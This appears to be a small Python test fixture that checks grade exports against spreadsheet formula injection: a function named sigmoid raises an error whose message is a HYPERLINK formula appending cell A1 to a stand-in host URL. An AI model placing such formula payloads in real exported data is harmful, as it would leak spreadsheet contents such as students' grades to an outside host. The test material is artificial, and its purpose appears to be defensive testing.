"""Give a message that a spreadsheet runs as a formula, where grades are exported.

expects: error
"""


def sigmoid(z):
    raise ValueError('=HYPERLINK("http://example.invalid?"&A1,"open")')
